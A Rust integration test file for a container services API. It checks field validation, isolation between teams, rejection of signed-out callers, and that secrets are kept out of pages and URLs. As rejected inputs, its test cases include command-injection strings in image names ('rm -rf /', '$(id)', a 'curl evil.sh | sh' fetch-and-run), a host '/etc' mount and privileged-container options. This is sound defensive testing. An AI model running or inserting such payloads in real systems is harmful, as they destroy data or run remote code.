//! The services REST API's boundary: bad definitions are refused with every reason and
//! change nothing; another team's ids do not exist; signed-out callers are turned away.

mod common;

use common::TestServer;
use serde_json::{json, Value};
use sqlx::PgPool;

async fn post(s: &TestServer, c: &reqwest::Client, path: &str, body: Value) -> (u16, Value) {
    let r = c.post(s.url(path)).json(&body).send().await.unwrap();
    (r.status().as_u16(), r.json().await.unwrap_or(Value::Null))
}

fn fields(body: &Value) -> Vec<String> {
    body["fields"]
        .as_array()
        .map(|f| {
            f.iter()
                .map(|e| e["field"].as_str().unwrap().to_owned())
                .collect()
        })
        .unwrap_or_default()
}

#[sqlx::test(migrations = false)]
async fn bad_definitions_are_refused_with_every_reason_and_nothing_is_stored(pool: PgPool) {
    let s = TestServer::start(pool).await;
    let c = s.owner().await;
    let cases = [
        (json!({"name": "Bad Name", "image": "nginx"}), vec!["name"]),
        (
            json!({"name": "web", "image": "nginx; rm -rf /"}),
            vec!["image"],
        ),
        (json!({"name": "web", "image": "$(id)"}), vec!["image"]),
        (
            json!({"name": "web", "image": "nginx", "replicas": 51}),
            vec!["replicas"],
        ),
        (
            json!({"name": "web", "image": "nginx", "ports": [{"container": 0}]}),
            vec!["ports[0].container"],
        ),
        (
            json!({"name": "web", "image": "nginx", "volumes": [{"name": "/etc", "path": "/host"}]}),
            vec!["volumes[0].name"],
        ),
        (
            json!({"name": "web", "image": "nginx", "env": [{"key": "1X", "value": ""}]}),
            vec!["env[0].key"],
        ),
        (
            json!({"name": "-", "image": "", "memory_mb": 1}),
            vec!["name", "image", "memory_mb"],
        ),
    ];
    for (spec, expected) in cases {
        let (status, body) = post(&s, &c, "/api/v1/services", spec.clone()).await;
        assert_eq!(status, 422, "{spec} → {body}");
        assert_eq!(body["error"], "invalid");
        assert_eq!(fields(&body), expected, "{spec} → {body}");
    }
    // Privileged mode, host networking and the like are not even fields.
    for extra in [
        json!({"privileged": true}),
        json!({"network_mode": "host"}),
        json!({"cap_add": ["SYS_ADMIN"]}),
    ] {
        let mut spec = json!({"name": "web", "image": "nginx"});
        spec.as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        let (status, body) = post(&s, &c, "/api/v1/services", spec).await;
        assert_eq!(status, 400, "{body}");
        assert!(
            body["message"].as_str().unwrap().contains("unknown field"),
            "{body}"
        );
    }
    let (status, _) = post(&s, &c, "/api/v1/services", json!("not an object")).await;
    assert_eq!(status, 400);
    assert_eq!(s.count("services").await, 0);
    assert_eq!(s.count("deployments").await, 0);
}

#[sqlx::test(migrations = false)]
async fn names_and_host_ports_are_unique(pool: PgPool) {
    let s = TestServer::start(pool).await;
    let c = s.owner().await;
    let spec =
        json!({"name": "web", "image": "nginx", "ports": [{"container": 80, "host": 18080}]});
    assert_eq!(post(&s, &c, "/api/v1/services", spec.clone()).await.0, 201);
    let (status, body) = post(&s, &c, "/api/v1/services", spec).await;
    assert_eq!(
        (status, fields(&body)),
        (422, vec!["name".to_owned()]),
        "{body}"
    );
    let other =
        json!({"name": "api", "image": "nginx", "ports": [{"container": 80, "host": 18080}]});
    let (status, body) = post(&s, &c, "/api/v1/services", other).await;
    assert_eq!(status, 422);
    assert_eq!(body["fields"][0]["field"], "ports[0].host");
    assert!(
        body["fields"][0]["message"]
            .as_str()
            .unwrap()
            .contains("service web"),
        "{body}"
    );
    assert_eq!(s.count("services").await, 1);
}

#[sqlx::test(migrations = false)]
async fn another_teams_service_does_not_exist_for_you(pool: PgPool) {
    let s = TestServer::start(pool.clone()).await;
    let c = s.owner().await;
    let (_, theirs) = common::other_teams_service(&pool, "theirs").await;
    let deployment: uuid::Uuid =
        sqlx::query_scalar("SELECT id FROM deployments WHERE service_id = $1")
            .bind(theirs)
            .fetch_one(&pool)
            .await
            .unwrap();

    let paths = [
        ("GET", format!("/api/v1/services/{theirs}")),
        ("PUT", format!("/api/v1/services/{theirs}")),
        ("DELETE", format!("/api/v1/services/{theirs}")),
        ("POST", format!("/api/v1/services/{theirs}/scale")),
        ("POST", format!("/api/v1/services/{theirs}/stop")),
        ("POST", format!("/api/v1/services/{theirs}/start")),
        ("GET", format!("/api/v1/services/{theirs}/deployments")),
        ("GET", format!("/api/v1/deployments/{deployment}")),
        ("POST", format!("/api/v1/services/{theirs}/redeploy")),
        ("POST", format!("/api/v1/services/{theirs}/rollback")),
        ("GET", format!("/api/v1/services/{theirs}/logs")),
        ("GET", format!("/api/v1/services/{theirs}/logs/stream")),
        ("GET", format!("/api/v1/services/{theirs}/events")),
        ("GET", format!("/api/v1/services/{theirs}/metrics")),
        ("GET", "/api/v1/services/not-a-uuid".to_owned()),
    ];
    for (method, path) in &paths {
        let body = match path.as_str() {
            p if p.ends_with("/scale") => json!({"replicas": 3}),
            p if p.ends_with("/rollback") => json!({"deployment": 1}),
            _ => json!({"name": "theirs", "image": "hijack"}),
        };
        let r = c
            .request(method.parse().unwrap(), s.url(path))
            .json(&body)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status().as_u16(), 404, "{method} {path}");
    }
    let listed: Value = c
        .get(s.url("/api/v1/services"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(listed, json!([]));
    let stored: (String, bool, bool) =
        sqlx::query_as("SELECT spec->>'image', stopped, deleting FROM services WHERE id = $1")
            .bind(theirs)
            .fetch_one(&pool)
            .await
            .unwrap();
    assert_eq!(
        stored,
        ("nginx".to_owned(), false, false),
        "nothing changed"
    );
    assert_eq!(s.count("deployments").await, 1);

    // Signed out: 401 everywhere.
    let anon = s.client();
    for (method, path) in &paths[..2] {
        let r = anon
            .request(method.parse().unwrap(), s.url(path))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status().as_u16(), 401, "{method} {path}");
    }
}

#[sqlx::test(migrations = false)]
async fn the_dashboard_form_reports_each_bad_field_and_pages_show_services(pool: PgPool) {
    let s = TestServer::start(pool).await;
    let c = s.owner().await;
    // The form posts plain fields, as a browser does.
    let bad = [
        ("id", ""),
        ("form[name]", "Bad Name"),
        ("form[image]", "nginx && curl evil.sh | sh"),
        ("form[replicas]", "500"),
        ("form[ports]", "eighty"),
        ("form[volumes]", "/etc:/host"),
        ("form[env]", "GOOD=1\nNO_EQUALS_SIGN"),
    ];
    let r = c
        .post(s.url("/api/save_service"))
        .form(&bad)
        .send()
        .await
        .unwrap();
    assert!(r.status().is_success(), "{}", r.status());
    let outcome: Value = r.json().await.unwrap();
    let mut fields: Vec<&str> = outcome["Invalid"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["field"].as_str().unwrap())
        .collect();
    fields.sort();
    fields.dedup();
    assert_eq!(
        fields,
        ["env", "image", "name", "ports", "replicas", "volumes"],
        "{outcome}"
    );
    assert_eq!(s.count("services").await, 0);

    let good = [
        ("id", ""),
        ("form[name]", "web"),
        ("form[image]", "nginx:1.27"),
        ("form[replicas]", "2"),
        ("form[env]", "GREETING=hello"),
        ("form[secret_env]", "TOKEN=sealed-Qx7-value"),
    ];
    let outcome: Value = c
        .post(s.url("/api/save_service"))
        .form(&good)
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    let id = outcome["Saved"]["id"].as_str().expect("saved").to_owned();

    let list = s.page(&c, "/services").await;
    assert!(list.contains("data-service=\"web\""), "{list}");
    assert!(list.contains("nginx:1.27"));
    let detail = s.page(&c, &format!("/services/{id}")).await;
    assert!(detail.contains("id=\"service-name\">web<"), "{detail}");
    assert!(detail.contains("GREETING, TOKEN"), "env names shown");
    assert!(
        !detail.contains("sealed-Qx7-value"),
        "secret values never reach the page"
    );
    let edit = s.page(&c, &format!("/services/{id}/edit")).await;
    assert!(edit.contains("TOKEN="), "{edit}");
    assert!(!edit.contains("sealed-Qx7-value"));
    let new = s.page(&c, "/services/new").await;
    assert!(new.contains("name=\"form[image]\""));
}

#[sqlx::test(migrations = false)]
async fn the_service_form_works_without_javascript(pool: PgPool) {
    let s = TestServer::start(pool).await;
    let c = s.owner().await;
    let post = |form: Vec<(&'static str, &'static str)>| {
        c.post(s.url("/api/save_service"))
            .header("accept", "text/html,application/xhtml+xml")
            .header("referer", s.url("/services/new"))
            .form(&form)
            .send()
    };
    // Invalid: back to the form with the values, secrets blanked, errors shown.
    let r = post(vec![
        ("id", ""),
        ("form[name]", "Bad Name"),
        ("form[image]", "nginx"),
        ("form[secret_env]", "TOKEN=hunter2"),
    ])
    .await
    .unwrap();
    let back = r.headers()["location"].to_str().unwrap().to_owned();
    assert!(back.starts_with("/services/new?problem=fields&"), "{back}");
    assert!(
        !back.contains("hunter2"),
        "secrets never go into a URL: {back}"
    );
    let page = s.page(&c, &back).await;
    assert!(
        page.contains("data-field=\"name\""),
        "the name error is shown"
    );
    assert!(page.contains("value=\"Bad Name\""), "the value is kept");
    assert!(page.contains("TOKEN="));
    assert_eq!(s.count("services").await, 0);
    // A forged problem code shows nothing but what the values themselves say.
    let page = s
        .page(&c, "/services/new?problem=evil&name=web&image=nginx")
        .await;
    assert!(!page.contains("field-error"));

    // Valid: on to the new service's page.
    let r = post(vec![
        ("id", ""),
        ("form[name]", "web"),
        ("form[image]", "nginx"),
    ])
    .await
    .unwrap();
    let next = r.headers()["location"].to_str().unwrap().to_owned();
    let id: uuid::Uuid = sqlx::query_scalar("SELECT id FROM services")
        .fetch_one(&s.pool)
        .await
        .unwrap();
    assert!(next.ends_with(&format!("/services/{id}")), "{next}");
    // The same name again: the store refuses it, the form says why.
    let r = post(vec![
        ("id", ""),
        ("form[name]", "web"),
        ("form[image]", "nginx"),
    ])
    .await
    .unwrap();
    let back = r.headers()["location"].to_str().unwrap().to_owned();
    assert!(
        back.starts_with("/services/new?problem=name_taken&"),
        "{back}"
    );
    let page = s.page(&c, &back).await;
    assert!(page.contains("already has a service with this name"));
}

/// The dashboard's service actions answer a refusal with the REST API's status (never 500)
/// and its message, and change nothing.
#[sqlx::test(migrations = false)]
async fn refused_service_actions_answer_4xx_with_the_reason(pool: PgPool) {
    let s = TestServer::start(pool).await;
    let c = s.owner().await;
    let (status, body) = post(
        &s,
        &c,
        "/api/v1/services",
        json!({"name": "web", "image": "nginx"}),
    )
    .await;
    assert_eq!(status, 201, "{body}");
    let id = body["id"].as_str().unwrap().to_owned();
    let action = |action: &'static str, replicas: &'static str| {
        let (c, url, id) = (c.clone(), s.url("/api/service_action"), id.clone());
        async move {
            let r = c
                .post(url)
                .form(&[
                    ("id", id.as_str()),
                    ("action", action),
                    ("replicas", replicas),
                ])
                .send()
                .await
                .unwrap();
            (r.status().as_u16(), r.text().await.unwrap())
        }
    };
    for (verb, replicas, want, says) in [
        ("explode", "", 422, "Unknown action"),
        ("scale", "", 422, "number of replicas"),
        ("scale", "51", 422, "50"),
        ("rollback", "", 422, "roll back to"),
        ("rollback", "99", 422, "no deployment #99"),
    ] {
        let (status, body) = action(verb, replicas).await;
        assert_eq!(status, want, "{verb} {replicas:?}: {body}");
        assert!(body.contains(says), "{verb} {replicas:?}: {body}");
    }
    let (_, view) = s_get(&s, &c, &format!("/api/v1/services/{id}")).await;
    assert_eq!(view["spec"]["replicas"], 1, "nothing changed: {view}");

    // The same refusal of a form posted without JavaScript sends the browser back to the
    // service's page, not to a bare error body.
    let page = s.url(&format!("/services/{id}"));
    let r = c
        .post(s.url("/api/service_action"))
        .header("accept", "text/html")
        .header("referer", &page)
        .form(&[("id", id.as_str()), ("action", "scale"), ("replicas", "51")])
        .send()
        .await
        .unwrap();
    assert!(r.status().is_redirection(), "{}", r.status());
    let back = r.headers()["location"].to_str().unwrap().to_owned();
    assert!(back.starts_with(&page), "{back}");

    // Being deleted: a conflict.
    let (status, body) = action("delete", "").await;
    assert!(status < 400, "{status} {body}");
    let (status, body) = action("stop", "").await;
    assert_eq!(status, 409, "{body}");
    assert!(body.contains("being deleted"), "{body}");
}

async fn s_get(s: &TestServer, c: &reqwest::Client, path: &str) -> (u16, Value) {
    let r = c.get(s.url(path)).send().await.unwrap();
    (r.status().as_u16(), r.json().await.unwrap_or(Value::Null))
}
